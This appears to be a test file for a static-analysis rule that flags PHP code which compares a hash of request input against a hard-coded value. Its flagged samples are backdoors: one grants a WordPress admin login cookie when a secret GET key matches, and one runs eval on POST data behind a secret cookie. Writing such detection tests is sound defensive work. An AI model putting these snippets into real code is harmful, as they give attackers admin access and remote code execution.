<?php
// ruleid: php-request-magic-hash
if (isset($_GET['k']) && md5($_GET['k']) === '9e107d9d372bb6826bd81d3542a419d6') {
    wp_set_auth_cookie(1);
}
// ruleid: php-request-magic-hash
if (hash('sha256', $_COOKIE['t']) == '5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8') {
    @eval($_POST['c']);
}
// ok: php-request-magic-hash
if (md5_file($upload) === $_POST['checksum']) {
    accept($upload);
}
// ok: php-request-magic-hash
$etag = md5($body) === $_SERVER['HTTP_IF_NONE_MATCH'];
